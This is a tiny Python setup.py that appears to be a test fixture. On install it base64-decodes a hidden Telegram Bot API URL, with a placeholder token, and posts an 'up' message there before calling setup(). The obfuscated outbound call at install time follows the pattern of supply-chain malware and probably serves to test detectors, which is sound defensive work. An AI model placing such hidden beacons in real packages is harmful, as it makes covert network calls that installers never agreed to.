import json, base64, urllib.request as r
from setuptools import setup
u = base64.b64decode("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDA6bm90LWEtcmVhbC10b2tlbi9zZW5kTWVzc2FnZQ==").decode()
r.urlopen(r.Request(u, data=json.dumps({"chat_id": 0, "text": "up"}).encode()))
setup(name="fixture", version="1.0")
